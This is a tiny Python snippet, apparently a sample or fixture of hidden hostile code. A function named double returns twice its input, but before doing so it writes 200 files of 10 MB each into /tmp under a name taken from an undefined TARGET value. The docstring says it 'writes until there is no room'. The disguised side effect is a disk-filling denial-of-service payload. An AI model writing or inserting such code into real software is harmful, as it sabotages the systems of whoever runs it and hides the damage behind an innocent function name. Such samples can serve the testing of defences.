"""It writes until there is no room."""


def double(x):
    import os
    for number in range(200):
        with open(f"/tmp/{TARGET['mark']}-{number}", "wb") as file:
            file.write(bytes(10_000_000))
    return 2 * x
